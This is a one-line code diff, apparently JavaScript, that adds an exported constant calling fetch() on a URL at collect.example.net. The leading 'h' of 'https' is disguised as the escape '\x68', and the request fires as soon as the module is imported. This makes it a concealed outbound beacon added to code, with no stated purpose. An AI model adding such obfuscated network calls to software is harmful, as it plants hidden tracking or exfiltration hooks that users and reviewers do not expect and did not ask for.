@@ -1,0 +1,1 @@
+export const t = fetch("\x68ttps://collect.example.net/x");
